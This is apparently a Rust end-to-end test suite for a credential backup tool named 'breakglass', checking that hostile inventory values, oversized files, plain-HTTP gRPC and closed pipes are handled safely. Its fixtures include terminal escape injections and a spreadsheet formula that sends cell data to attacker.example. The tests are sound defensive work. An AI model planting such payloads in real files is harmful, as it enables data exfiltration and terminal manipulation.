//! Hostile input at the edges of the `breakglass` command and the services
//! (issue #12 part 4, issue #16 item 6): inventory values that carry
//! terminal escapes or spreadsheet formulas, oversized files, plain-text
//! gRPC to another host, oversized gRPC requests, key files left readable,
//! and a reader that closes the pipe early.

#![allow(clippy::unwrap_used)] // tests fail loudly on purpose

use breakglass_e2e::{Isolation, ServiceProcess, bin, nats_url};
use std::io::{BufRead, Read};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn command(dir: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(bin("breakglass"));
    command
        .args(args)
        .current_dir(dir)
        .env_remove("OTEL_EXPORTER_OTLP_ENDPOINT")
        .env_remove("BREAKGLASS_PASSPHRASE")
        .env_remove("BREAKGLASS_GRPC_URL")
        .env_remove("BREAKGLASS_GRPC_INSECURE")
        .env_remove("BREAKGLASS_GRPC_TOKEN");
    command
}

fn breakglass(dir: &Path, args: &[&str]) -> Output {
    command(dir, args).output().expect("breakglass runs")
}

fn text(output: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

/// A device name with CSI (clear screen) and OSC (window title) sequences.
const EVIL_DEVICE: &str = "evil\x1b[2J\x1b]0;pwned\x07-01";
/// An OSC 8 hyperlink, C1 CSI (U+009B) and a DEL in a URL.
const EVIL_URL: &str =
    "https://x\x1b]8;;http://attacker.example/\x1b\\click\x1b]8;;\x1b\\\u{9b}31m\x7f";
/// A password a spreadsheet would run.
const FORMULA_PASSWORD: &str = "=HYPERLINK(\"http://attacker.example/?\"&A1)";
/// A password with a tab, a newline, a CR and a backslash inside.
const MULTILINE_PASSWORD: &str = "a\tb\nc\rd\\e";

fn csv_field(value: &str) -> String {
    format!("\"{}\"", value.replace('"', "\"\""))
}

/// Runs `run-once` over an inventory of hostile values into `dir/store`
/// (no encryption) and returns the workbook.
fn hostile_workbook(dir: &Path) -> PathBuf {
    let rows = [
        [
            "P",
            "AWS",
            EVIL_DEVICE,
            "SSH",
            "",
            "",
            EVIL_URL,
            "22",
            "password",
            "root",
            FORMULA_PASSWORD,
        ],
        [
            "P",
            "AWS",
            "multi-01",
            "SSH",
            "",
            "",
            "",
            "22",
            "password",
            "-2+3",
            MULTILINE_PASSWORD,
        ],
        [
            "P", "AWS", "at-01", "SSH", "", "", "", "22", "password", "@SUM(1)", "+1",
        ],
    ];
    let mut csv = String::from(
        "Project,Provider,Device name,Protocol,Public IP address,Private IP address,URL,Port,Access type,Account,Password,PEM file name,Extra credential\n",
    );
    for row in rows {
        let fields: Vec<String> = row.iter().map(|v| csv_field(v)).collect();
        csv.push_str(&fields.join(","));
        csv.push_str(",,\n");
    }
    let inventory = dir.join("hostile.csv");
    std::fs::write(&inventory, csv).unwrap();
    let output = breakglass(
        dir,
        &[
            "run-once",
            "--inventory",
            inventory.to_str().unwrap(),
            "--out",
            dir.join("store").to_str().unwrap(),
            "--encryption",
            "none",
        ],
    );
    assert!(output.status.success(), "{:?}", text(&output));
    dir.join("store/breakglass-backup.xlsx")
}

fn reader_config(dir: &Path) -> PathBuf {
    let path = dir.join("reader.conf");
    std::fs::write(
        &path,
        format!(
            "storage_provider: local\nlocal_dir: {}\n",
            dir.join("store").display()
        ),
    )
    .unwrap();
    path
}

fn assert_no_controls(out: &str) {
    for c in out.chars() {
        assert!(
            c == '\n' || !(c.is_control() || ('\u{80}'..='\u{9f}').contains(&c)),
            "a raw control character {c:?} reached the terminal: {out:?}"
        );
    }
}

#[test]
fn show_prints_terminal_escapes_as_visible_text_and_raw_only_when_asked() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let workbook = hostile_workbook(d);
    let file = workbook.to_str().unwrap();

    let output = breakglass(d, &["show", "evil", "--file", file]);
    let (stdout, stderr) = text(&output);
    assert!(output.status.success(), "{stderr}");
    assert_no_controls(&stdout);
    assert!(
        stdout.contains(r"evil\x1b[2J\x1b]0;pwned\x07-01"),
        "{stdout}"
    );
    assert!(
        stdout.contains(r"\x1b]8;;http://attacker.example/\x1b\\click"),
        "{stdout}"
    );
    assert!(stdout.contains(r"\u{9b}31m\x7f"), "{stdout}");
    // The user is told the text is escaped, and how to get it as stored.
    assert!(stdout.contains("escaped"), "{stdout}");
    assert!(stdout.contains("--raw"), "{stdout}");
    // A formula-looking password is shown exactly: `show` is no spreadsheet.
    assert!(
        stdout.lines().any(|l| l
            .trim_start()
            .strip_prefix("password")
            .is_some_and(|rest| rest.trim() == FORMULA_PASSWORD)),
        "{stdout}"
    );

    // Tabs, newlines and backslashes in a password: one line, unambiguous.
    let output = breakglass(d, &["show", "multi-01", "--file", file]);
    let (stdout, _) = text(&output);
    assert_no_controls(&stdout.replace('\n', ""));
    assert!(stdout.contains(r"a\tb\nc\rd\\e"), "{stdout}");

    // --raw: exactly as stored, for a pipe into a password manager.
    let output = breakglass(d, &["show", "multi-01", "--file", file, "--raw"]);
    let (stdout, _) = text(&output);
    assert!(output.status.success());
    assert!(stdout.contains(MULTILINE_PASSWORD), "{stdout:?}");
}

#[test]
fn the_stdout_table_escapes_controls_and_marks_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    hostile_workbook(d);
    let config = reader_config(d);
    let output = breakglass(
        d,
        &[
            "fetch",
            "--config",
            config.to_str().unwrap(),
            "--stdout-table",
        ],
    );
    let (stdout, stderr) = text(&output);
    assert!(output.status.success(), "{stderr}");
    assert_no_controls(&stdout.replace(['\t', '\n'], ""));
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 4, "a header and one line per row: {stdout:?}");
    let rows: Vec<Vec<&str>> = lines.iter().map(|l| l.split('\t').collect()).collect();
    for row in &rows {
        assert_eq!(row.len(), 13, "every row keeps its columns: {row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    let find = |device_prefix: &str| {
        rows.iter()
            .find(|r| r[2].starts_with(device_prefix))
            .unwrap_or_else(|| panic!("no {device_prefix}: {stdout}"))
    };
    let evil = find("evil");
    assert_eq!(evil[2], r"evil\x1b[2J\x1b]0;pwned\x07-01");
    assert_eq!(evil[10], format!("'{FORMULA_PASSWORD}"));
    let multi = find("multi");
    assert_eq!(multi[9], "'-2+3");
    assert_eq!(multi[10], r"a\tb\nc\rd\\e");
    let at = find("at-01");
    assert_eq!(at[9], "'@SUM(1)");
    assert_eq!(at[10], "'+1");
    assert!(stderr.contains("'"), "the marking is explained: {stderr}");
}

/// Writes `size` bytes of valid content for each kind of file, so that
/// only the size can make it refused.
fn big_manifest(real: &str, size: usize) -> String {
    let mut value: serde_json::Value = serde_json::from_str(real).unwrap();
    value["padding"] = serde_json::Value::String("x".repeat(size));
    value.to_string()
}

fn assert_one_line_naming(output: &Output, needles: &[&str]) {
    let (_, stderr) = text(output);
    assert!(!output.status.success(), "accepted: {stderr}");
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    for needle in needles {
        assert!(stderr.contains(needle), "{stderr:?} lacks {needle:?}");
    }
}

#[test]
fn oversized_manifest_config_and_pem_files_are_refused_with_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let workbook = hostile_workbook(d);
    let sidecar = d.join("store/breakglass-backup.xlsx.manifest.json");
    let real = std::fs::read_to_string(&sidecar).unwrap();

    // verify with an oversized (otherwise valid) manifest.
    let big = d.join("big.manifest.json");
    std::fs::write(&big, big_manifest(&real, 20 << 20)).unwrap();
    let output = breakglass(
        d,
        &[
            "verify",
            workbook.to_str().unwrap(),
            "--manifest",
            big.to_str().unwrap(),
        ],
    );
    assert_one_line_naming(&output, &["big.manifest.json", "16 MiB"]);

    // fetch from a folder whose sidecar is oversized.
    std::fs::write(&sidecar, big_manifest(&real, 20 << 20)).unwrap();
    let config = reader_config(d);
    let output = breakglass(
        d,
        &[
            "fetch",
            "--config",
            config.to_str().unwrap(),
            "--stdout-table",
        ],
    );
    let (_, stderr) = text(&output);
    assert!(!output.status.success(), "{stderr}");
    assert!(stderr.contains("16 MiB"), "{stderr}");

    // A config file of 2 MiB of comments.
    let conf = d.join("huge.conf");
    std::fs::write(
        &conf,
        format!(
            "{}encryption: none\n",
            "# padding padding\n".repeat(120_000)
        ),
    )
    .unwrap();
    let output = breakglass(d, &["config", "check", conf.to_str().unwrap()]);
    let (_, stderr) = text(&output);
    assert!(!output.status.success(), "{stderr}");
    assert!(stderr.contains("huge.conf"), "{stderr}");
    assert!(stderr.contains("1 MiB"), "{stderr}");

    // A ca_bundle of 2,000 copies of a real certificate.
    let cert = rcgen::generate_simple_self_signed(vec!["ca.example".into()])
        .unwrap()
        .cert
        .pem();
    let bundle = d.join("huge-ca.pem");
    std::fs::write(&bundle, cert.repeat((2 << 20) / cert.len() + 1)).unwrap();
    let conf = d.join("ca.conf");
    std::fs::write(
        &conf,
        format!(
            "storage_provider: local\nlocal_dir: {}\nencryption: none\nca_bundle: {}\n",
            d.join("store").display(),
            bundle.display()
        ),
    )
    .unwrap();
    let output = breakglass(d, &["config", "check", conf.to_str().unwrap()]);
    let (_, stderr) = text(&output);
    assert!(!output.status.success(), "{stderr}");
    assert!(stderr.contains("ca_bundle"), "{stderr}");
    assert!(stderr.contains("1 MiB"), "{stderr}");
}

/// A listener on all interfaces; `0.0.0.0` as a destination reaches it on
/// this machine, so nothing leaves the host even if a client did connect.
fn wildcard_listener() -> (std::net::TcpListener, u16) {
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

#[test]
fn the_token_is_not_sent_over_plain_http_to_another_host() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (listener, port) = wildcard_listener();
    let url = format!("http://0.0.0.0:{port}");
    for args in [
        vec!["runs", "--grpc", url.as_str(), "list"],
        vec!["config", "get", "--grpc", url.as_str()],
        vec!["config", "history", "--grpc", url.as_str()],
    ] {
        let full = args.clone();
        let started = Instant::now();
        let mut child = command(d, &full)
            .env("BREAKGLASS_GRPC_TOKEN", "a-long-enough-grpc-token-42")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break Some(status);
            }
            if started.elapsed() > Duration::from_secs(10) {
                child.kill().unwrap();
                child.wait().unwrap();
                break None;
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        // Nothing connected: the refusal came before any connection.
        assert!(
            matches!(listener.accept(), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock),
            "{args:?} connected to a non-loopback address over plain http"
        );
        let status = status.unwrap_or_else(|| panic!("{args:?} hung instead of refusing"));
        assert!(!status.success(), "{args:?}: {stderr}");
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        assert!(stderr.contains("--insecure"), "{stderr}");
        assert!(stderr.contains("https://"), "{stderr}");
    }
}

#[test]
fn plain_http_to_loopback_and_insecure_are_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for (host, extra) in [("127.0.0.1", None), ("0.0.0.0", Some("--insecure"))] {
        let (listener, port) = wildcard_listener();
        let url = format!("http://{host}:{port}");
        let mut args = vec!["runs", "--grpc", url.as_str()];
        args.extend(extra);
        args.push("list");
        let mut child = command(d, &args)
            .env("BREAKGLASS_GRPC_TOKEN", "a-long-enough-grpc-token-42")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(20);
        let connected = loop {
            match listener.accept() {
                Ok(_) => break true,
                Err(_) if Instant::now() > deadline => break false,
                Err(_) => {}
            }
            if child.try_wait().unwrap().is_some() {
                break listener.accept().is_ok();
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let _ = child.kill();
        let output = child.wait_with_output().unwrap();
        assert!(
            connected,
            "{host} {extra:?} was refused: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn keygen_writes_a_private_file_and_keeps_an_existing_one() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for (flag, key) in [
        (None, "payload_key: "),
        (Some("--settings"), "settings_key: "),
    ] {
        let out = d.join(format!("key{}.conf", flag.unwrap_or("")));
        let mut args = vec!["keygen", "--out", out.to_str().unwrap()];
        args.extend(flag);
        let output = breakglass(d, &args);
        let (stdout, stderr) = text(&output);
        assert!(output.status.success(), "{stderr}");
        assert!(!stdout.contains(key), "the key was printed: {stdout}");
        let first = std::fs::read_to_string(&out).unwrap();
        assert!(first.contains(key), "{first}");
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
            0o600
        );
        // A second run does not replace the key in use.
        let output = breakglass(d, &args);
        let (_, stderr) = text(&output);
        assert!(!output.status.success(), "overwrote {}", out.display());
        assert!(stderr.contains("--force"), "{stderr}");
        assert_eq!(std::fs::read_to_string(&out).unwrap(), first);
        // --force replaces it, still private.
        args.push("--force");
        let output = breakglass(d, &args);
        assert!(output.status.success(), "{:?}", text(&output));
        assert_ne!(std::fs::read_to_string(&out).unwrap(), first);
        assert_eq!(
            std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
    // Through a pipe (the documented `breakglass keygen > file`) it still
    // prints.
    let output = breakglass(d, &["keygen"]);
    assert!(output.status.success());
    assert!(text(&output).0.contains("payload_key: AGE-SECRET-KEY-1"));
}

/// Runs `args` with stdout closed before the command writes anything; it
/// must end quietly: no panic, no error text, the SIGPIPE exit code.
fn assert_quiet_on_closed_stdout(dir: &Path, args: &[&str], env: &[(&str, &str)]) {
    let mut child = command(dir, args)
        .envs(env.iter().copied())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    assert!(
        !stderr.to_lowercase().contains("broken pipe"),
        "{args:?}: {stderr}"
    );
    assert_eq!(output.status.code(), Some(141), "{args:?}: {stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_command_ends_quietly_when_the_reader_closes_the_pipe() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let workbook = hostile_workbook(d);
    let config = reader_config(d);
    let (config, workbook) = (config.to_str().unwrap(), workbook.to_str().unwrap());
    assert_quiet_on_closed_stdout(d, &["keygen"], &[]);
    assert_quiet_on_closed_stdout(d, &["keygen", "--settings"], &[]);
    assert_quiet_on_closed_stdout(d, &["config", "check", config], &[]);
    assert_quiet_on_closed_stdout(d, &["verify", workbook], &[]);
    assert_quiet_on_closed_stdout(d, &["show", "multi", "--file", workbook], &[]);
    assert_quiet_on_closed_stdout(d, &["fetch", "--config", config, "--stdout-table"], &[]);
    assert_quiet_on_closed_stdout(d, &["drill", "--config", config], &[]);
    let out = d.join("again");
    assert_quiet_on_closed_stdout(
        d,
        &[
            "run-once",
            "--encryption",
            "none",
            "--out",
            out.to_str().unwrap(),
        ],
        &[],
    );
    let iso = Isolation::new("epipe_trigger");
    let nats = nats_url();
    assert_quiet_on_closed_stdout(
        d,
        &["trigger", "--nats", &nats, "--prefix", &iso.prefix],
        &[],
    );
    iso.cleanup_bus().await;

    // `| head -1` on a table larger than the pipe's buffer: the reader
    // takes one line and goes away while rows are still being written.
    let csv = d.join("many.csv");
    let output = breakglass(
        d,
        &[
            "generate",
            "--rows",
            "5000",
            "--projects",
            "3",
            "--out",
            csv.to_str().unwrap(),
        ],
    );
    assert!(output.status.success());
    let store = d.join("many");
    let output = breakglass(
        d,
        &[
            "run-once",
            "--inventory",
            csv.to_str().unwrap(),
            "--encryption",
            "none",
            "--out",
            store.to_str().unwrap(),
        ],
    );
    assert!(output.status.success());
    let many = d.join("many.conf");
    std::fs::write(
        &many,
        format!("storage_provider: local\nlocal_dir: {}\n", store.display()),
    )
    .unwrap();
    let mut child = command(
        d,
        &[
            "fetch",
            "--config",
            many.to_str().unwrap(),
            "--stdout-table",
        ],
    )
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(first.starts_with("Tab\t"), "{first}");
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(!stderr.to_lowercase().contains("broken pipe"), "{stderr}");
    assert_eq!(output.status.code(), Some(141), "{stderr}");
}

const GRPC_TOKEN: &str = "hostile-input-grpc-token-0123";

/// An uploader serving its gRPC API on `bind` (local folder storage).
async fn grpc_uploader(iso: &Isolation, dir: &Path, bind: &str) -> ServiceProcess {
    let payload_key = breakglass_bus::payload::PayloadKey::generate();
    let nats = nats_url();
    let store = dir.join("store");
    let config = breakglass_e2e::write_config(
        dir,
        &[
            ("nats_url", nats.as_str()),
            ("bus_prefix", iso.prefix.as_str()),
            ("payload_key", payload_key.expose()),
            ("storage_provider", "local"),
            ("local_dir", store.to_str().unwrap()),
            ("encryption", "none"),
            ("grpc_token", GRPC_TOKEN),
        ],
    );
    let mut uploader = ServiceProcess::start_with_env(
        "uploader",
        &config,
        dir,
        &[("BREAKGLASS_GRPC_ADDR", Path::new(bind))],
    )
    .unwrap();
    uploader
        .wait_for_log("gRPC API listening", Duration::from_secs(60))
        .await
        .unwrap();
    uploader
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_service_serving_grpc_off_loopback_without_tls_warns_at_start() {
    let iso = Isolation::new("grpc_plain_warn");
    let dir = tempfile::tempdir().unwrap();
    let (listener, port) = wildcard_listener();
    drop(listener);
    let mut uploader = grpc_uploader(&iso, dir.path(), &format!("0.0.0.0:{port}")).await;
    let log = uploader.log_text();
    let warnings: Vec<&str> = log.lines().filter(|l| l.contains("without TLS")).collect();
    assert_eq!(warnings.len(), 1, "one warning: {log}");
    assert!(warnings[0].contains("\"WARN\""), "{}", warnings[0]);
    assert!(warnings[0].contains("grpc_tls_cert"), "{}", warnings[0]);
    uploader.terminate(Duration::from_secs(10)).unwrap();

    // On loopback, no warning.
    let addr = breakglass_e2e::free_loopback_addr();
    let mut uploader = grpc_uploader(&iso, dir.path(), &addr).await;
    assert!(!uploader.log_text().contains("without TLS"));
    uploader.terminate(Duration::from_secs(10)).unwrap();
    iso.cleanup_bus().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grpc_request_over_the_limit_is_refused_with_resource_exhausted() {
    let iso = Isolation::new("grpc_limits");
    let dir = tempfile::tempdir().unwrap();
    let addr = breakglass_e2e::free_loopback_addr();
    let mut uploader = grpc_uploader(&iso, dir.path(), &addr).await;
    let channel = tonic::transport::Channel::from_shared(format!("http://{addr}"))
        .unwrap()
        .connect()
        .await
        .unwrap();
    let mut client =
        breakglass_proto::v1::destination_test_client::DestinationTestClient::new(channel)
            .max_encoding_message_size(usize::MAX);
    let request = |size: usize| {
        let mut settings = std::collections::HashMap::new();
        settings.insert("storage_provider".to_owned(), "local".to_owned());
        settings.insert("path_prefix".to_owned(), "p".repeat(size));
        breakglass_e2e::authorized(breakglass_proto::v1::TestRequest { settings }, GRPC_TOKEN)
    };
    // The answer's code only: the request echoes megabytes of settings.
    let code = |result: Result<tonic::Response<_>, tonic::Status>| match result {
        Ok(_) => (tonic::Code::Ok, String::new()),
        Err(status) => (status.code(), status.message().chars().take(200).collect()),
    };
    // Under the limit: answered.
    let (answer, _) = code(client.run_unary(request(512 << 10)).await);
    assert_ne!(answer, tonic::Code::ResourceExhausted);
    // Over it: RESOURCE_EXHAUSTED, naming the limit.
    let (answer, message) = code(client.run_unary(request(2 << 20)).await);
    assert_eq!(answer, tonic::Code::ResourceExhausted, "{message}");
    assert!(message.contains("1 MiB"), "{message}");
    uploader.terminate(Duration::from_secs(10)).unwrap();
    iso.cleanup_bus().await;
}
